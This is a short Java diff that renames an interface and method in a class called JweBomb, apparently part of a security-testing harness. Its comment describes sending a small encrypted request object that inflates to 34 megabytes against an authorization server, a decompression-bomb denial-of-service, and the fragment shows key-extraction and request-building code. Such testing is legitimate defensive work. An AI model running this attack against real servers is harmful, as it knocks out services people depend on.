@@ -26,7 +26,7 @@ import javax.crypto.spec.PSource;
 import javax.crypto.spec.SecretKeySpec;
 
 /** Sends a request object of 46 kilobytes, encrypted to the server's published key, that inflates to 34 megabytes. */
-public final class JweBomb implements Hostile {
+public final class JweBomb implements AttackKind {
 
     private static final int INFLATED = 34_000_000;
     private static final Pattern KEY = Pattern.compile("(\\{[^{}]*\"use\"\\s*:\\s*\"enc\"[^{}]*\\})");
@@ -53,7 +53,7 @@ public final class JweBomb implements Hostile {
     }
 
     @Override
-    public int strike(String source) {
+    public int attack(String source) {
         var form = Map.of(
                 "response_type", "code",
                 "client_id", "citizen-portal",
